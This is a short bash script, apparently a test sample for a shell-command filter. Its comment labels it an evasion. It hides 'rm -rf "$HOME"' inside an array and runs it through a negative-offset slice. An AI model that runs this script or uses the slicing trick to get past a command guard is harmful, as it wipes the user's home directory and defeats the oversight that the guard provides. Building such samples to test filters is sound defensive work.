#!/bin/bash
# Evasion: a negative offset slices the last three words of an array into the command
set -u
cmd=(log rm -rf "$HOME")
"${cmd[@]: -3}"
